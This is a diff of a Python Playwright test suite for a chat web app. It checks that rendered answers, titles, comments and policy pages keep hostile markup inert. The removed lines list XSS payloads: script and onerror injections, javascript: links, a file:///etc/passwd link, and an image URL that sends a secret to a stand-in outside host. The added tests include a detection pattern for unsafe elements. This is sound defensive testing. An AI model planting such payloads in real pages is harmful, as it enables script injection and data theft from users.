@@ -2,62 +2,114 @@
 
 import httpx2 as httpx
 import pytest
+from burnish.serving.app import PAGE
 from playwright.sync_api import Browser, Error, Page, expect
 
 from tests.serving.conftest import Running
 from tests.serving.page.conftest import StubEngine, ask
+from tests.serving.page.hostile import HOSTILE
+from tests.serving.page.made_up import fulfilled, policy, ticks, version, vote
 
-HOSTILE = [
-    "<script>window.hit=1</script>",
-    "<img src=x onerror='window.hit=1'>",
-    "<svg onload=window.hit=1><animate onbegin=window.hit=1>",
-    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
-    "<details open ontoggle=window.hit=1>x</details>",
-    "<style>@import 'http://198.51.100.1/x.css';</style>",
-    "<base href='http://198.51.100.1/'><meta http-equiv=refresh content='0;url=http://198.51.100.1'>",
-    "[click](javascript:window.hit=1)",
-    "[click](JaVaScRiPt&colon;window.hit=1)",
-    "[click](&#106;avascript:window.hit=1)",
-    "[click](java\tscript:window.hit=1)",
-    "[click](data:text/html,<script>hit=1</script>)",
-    "[click](vbscript:hit) [file](file:///etc/passwd) [rel](/v1/models)",
-    "![x](http://198.51.100.1/leak.png?q=secret)",
-    '![x](x"onerror="window.hit=1)',
-    "<http://198.51.100.1/ onmouseover=window.hit=1>",
-    "[ref]\n\n[ref]: javascript:window.hit=1",
-    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| [c](javascript:hit) | d |",
-    "- <b onclick=window.hit=1>x</b>\n- [ ] <input autofocus onfocus=window.hit=1>",
-    "```html\n<script>window.hit=1</script>\n```",
-    "`<img src=x onerror=window.hit=1>`",
-    "> " * 300 + "deep",
-    "*" * 2000 + "x" + "_" * 2000,
-]
+# What must not be among the elements that texts became, wherever they show.
+UNSAFE = """(selector) => [...document.querySelectorAll(selector)].flatMap((node) => [
+  ...(/^(script|img|iframe|style|base|meta|object|embed|link|video|audio|frame|template)$/i.test(node.localName)
+    ? [node.localName] : []),
+  ...[...node.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
+  ...(typeof node.href === 'string' && !/^(https?|mailto):/.test(node.href) ? [node.href] : []),
+])"""
+
+
+def test_there_are_enough_vectors():
+    assert len(set(HOSTILE)) >= 60
 
 
 def test_hostile_answers_stay_text(page: Page, engine: StubEngine):
+    grown = """async (texts) => {
+      const { GrowingMarkdown } = await import('/static/markdown.js');
+      for (const text of texts) {
+        const root = document.createElement('div');
+        root.className = 'grown';
+        document.body.append(root);
+        const markdown = new GrowingMarkdown(root);
+        for (let at = 0; at < text.length; at += 7) markdown.write(text.slice(at, at + 7));
+      }
+    }"""
+    page.evaluate(grown, HOSTILE)
+    assert page.evaluate(UNSAFE, ".grown *") == []
     engine.pace_s = 0
-    for text in HOSTILE:
-        engine.reply = lambda _, text=text: text
-        page.get_by_role("button", name="New chat").click()
-        ask(page)
-        found = page.evaluate(
-            """() => [...document.querySelectorAll('.text *')].flatMap((node) => [
-                 ...(/^(script|img|svg|iframe|style|base|meta|object|embed|form|input|link|video)$/i
-                   .test(node.localName) ? [node.localName] : []),
-                 ...[...node.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
-                 ...(node.href && !/^(https?|mailto):/.test(node.href) ? [node.href] : []),
-               ])"""
-        )
-        assert found == [], text
+    engine.reply = lambda _: "\n\n".join(text for text in HOSTILE if len(text) < 200)
+    ask(page)
+    page.get_by_role("button", name="Copy", exact=True).hover()
+    assert page.evaluate(UNSAFE, ".text *") == []
     page.wait_for_timeout(200)
     assert page.evaluate("window.hit") is None
     assert page.locator("a[href*='v1/models']").count() == 0
 
 
+def test_hostile_questions_titles_and_comments_stay_text(page: Page):
+    short = [text for text in HOSTILE if len(text) < 120]
+    now = 1.0
+    talks = [
+        {
+            "id": f"talk-{n}",
+            "title": text,
+            "at": now,
+            "settings": {"system": text},
+            "turns": turns(text),
+        }
+        for n, text in enumerate(short)
+    ]
+    keep = """(talks) => {
+      for (const talk of talks) localStorage.setItem('burnish.conversation.' + talk.id, JSON.stringify(talk));
+      localStorage.setItem('burnish.conversations', JSON.stringify(talks.map(({ id, title, at }) => ({ id, title, at }))));
+    }"""
+    page.evaluate(keep, talks)
+    page.evaluate("location.hash = ''")
+    page.reload()
+    expect(page.locator(".talks li")).to_have_count(len(short))
+    for n in (0, len(short) // 2, len(short) - 1):
+        page.locator(".talks a").nth(n).click()
+        expect(page.locator(".asked > p")).to_have_text(short[n], use_inner_text=False)
+        page.get_by_role("button", name="Comment", exact=True).click()
+        expect(page.get_by_label("Your comment")).to_have_value(short[n])
+    assert page.evaluate(UNSAFE, "#view *:not(a[href^='#'], a[href^='#'] *)") == []
+    assert page.evaluate("window.hit") is None
+
+
+def turns(text: str) -> list[dict]:
+    held = {"comment": {"id": "c", "value": text, "metadata": {}}}
+    answer = {"text": text, "id": "chatcmpl-x", "version": text, "done": True, "held": held}
+    calls = [{"name": text, "arguments": text}]
+    answer |= {"thinking": text, "calls": calls, "error": text}
+    return [{"role": "user", "text": text}, {"role": "assistant", "answers": [answer], "shown": 0}]
+
+
+def test_hostile_versions_reasons_and_reports_stay_text(page: Page):
+    for n in (0, 7, 30, 55):
+        text = HOSTILE[n]
+        page.unroute_all()
+        page.route("**/v1/policies/default?*", fulfilled(policy(text)))
+        page.route(
+            "**/v1/policies/default/versions/*",
+            fulfilled(version(text)),
+        )
+        page.route("**/v1/learner?*", fulfilled(ticks(text)))
+        page.route("**/v1/feedback/*", fulfilled(vote(text)))
+        for path, shown in (
+            ("learning", "ol.moves"),
+            ("learning/version/2", ".checks"),
+            ("learning/vote/x", ".fate"),
+        ):
+            page.evaluate("(path) => { location.hash = '#/' + path; }", path)
+            expect(page.locator(shown).first).to_be_visible()
+            assert page.evaluate(UNSAFE, "#view *:not(a[href^='#'])") == [], (path, text)
+    assert page.evaluate("window.hit") is None
+
+
 def test_hostile_questions_stay_text(page: Page):
     ask(page, HOSTILE[1])
-    expect(page.locator(".asked p")).to_have_text(HOSTILE[1])
-    assert page.locator(".asked p *").count() == 0
+    expect(page.locator(".asked > p")).to_have_text(HOSTILE[1])
+    assert page.locator(".asked > p *").count() == 0
 
 
 def test_markdown_becomes_what_it_means(page: Page, engine: StubEngine):
@@ -114,14 +166,27 @@ def test_the_policy_forbids_everything_else(server: Running, browser: Browser):
 
 
 def test_files_have_their_types_and_are_small(server: Running):
-    names = ["app.js", "api.js", "judgement.js", "markdown.js", "turns.js", "style.css"]
-    names += ["vendor/marked.esm.js", "vendor/marked.LICENSE.md"]
     size = len(httpx.get(server.url).content)
-    for name in names:
+    for file in sorted(PAGE.rglob("*.*")):
+        name = file.relative_to(PAGE).as_posix()
         answer = httpx.get(f"{server.url}/static/{name}")
         assert answer.status_code == 200
-        kind = {"js": "text/javascript", "css": "text/css"}.get(name.rpartition(".")[2], "text/")
+        kind = {".js": "text/javascript", ".css": "text/css"}.get(file.suffix, "text/")
         assert answer.headers["content-type"].startswith(kind)
         size += len(answer.content)
-    assert size < 150_000
+    assert size < 200_000
     assert httpx.get(f"{server.url}/static/..%2Fapp.py").status_code == 404
+
+
+def test_scripts_are_sent_without_comments_and_whole(server: Running):
+    for file in PAGE.glob("*.js"):
+        source = file.read_text()
+        ticks = [
+            line.count("`") % 2 for line in source.splitlines() if not line.strip().startswith("//")
+        ]
+        assert not any(ticks), (
+            f"{file.name}: a text of several lines may hold what looks like a comment"
+        )
+        lines = httpx.get(f"{server.url}/static/{file.name}").text.splitlines()
+        kept = [line.strip() for line in source.splitlines()]
+        assert lines == [line for line in kept if line and not line.startswith("//")]
